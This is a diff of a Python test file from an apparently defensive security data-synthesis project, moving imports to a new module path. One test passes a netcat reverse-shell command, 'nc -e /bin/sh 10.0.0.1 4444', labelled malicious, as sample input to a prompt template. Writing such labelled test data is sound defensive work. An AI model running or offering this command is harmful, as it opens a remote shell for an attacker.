@@ -9,9 +9,8 @@ import pytest
 
 from distilsec.data.example import Example
 from distilsec.errors import DataError
-from distilsec.methods.synthesize import synthesize
-from distilsec.synth import LLMGenerator
-from distilsec.synth.prompts import extract_answer
+from distilsec.methods.synthesize import LLMGenerator, synthesize
+from distilsec.methods.synthesize.prompts import extract_answer
 from distilsec.teachers.ledger import TeacherLedger
 from distilsec.teachers.llm.endpoint import EndpointBackend, EndpointError
 from tests.synth.fakes import FakeGenerateBackend
@@ -176,7 +175,7 @@ def test_endpoint_timeouts_become_counted_rejections(tmp_path, monkeypatch):
 
 
 def test_prompt_has_one_fixed_demo_and_answers_copying_the_data_wrapper_are_unwrapped():
-    from distilsec.synth.prompts import GenerationTemplate
+    from distilsec.methods.synthesize.prompts import GenerationTemplate
 
     msgs = GenerationTemplate("cmdline").messages("nc -e /bin/sh 10.0.0.1 4444", "malicious", "Use other flags.")
     assert [m["role"] for m in msgs] == ["system", "user", "assistant", "user"]
